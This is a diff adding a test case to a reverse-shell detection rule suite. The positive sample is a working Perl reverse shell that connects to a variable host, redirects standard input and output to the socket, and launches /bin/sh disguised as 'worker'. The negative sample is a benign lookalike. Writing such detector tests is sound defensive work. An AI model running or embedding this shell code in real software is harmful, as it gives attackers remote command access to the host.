@@ -96,4 +96,12 @@ describeRuleCases('reverse-shell', [
     negative:
       'c, err := net.DialTimeout("tcp", ep, 10*time.Second)\nout, _ := exec.Command("git", "status").Output()\n',
   },
+  {
+    id: 'SG-RSHELL-006',
+    file: 'scripts/symcache.pl',
+    positive:
+      "use Socket;\nsocket(my $s, PF_INET, SOCK_STREAM, getprotobyname('tcp'));\nif (connect($s, sockaddr_in($port, inet_aton($host)))) {\n  open(STDIN, '<&', $s);\n  open(STDOUT, '>&', $s);\n  exec { '/bin/sh' } 'worker', '-i';\n}\n",
+    negative:
+      "use DBI;\nmy $dbh = DBI->connect($dsn, $user, $pass);\nopen(STDOUT, '>&', $log);\nexec('/bin/sh', '-c', $job);\n",
+  },
 ]);
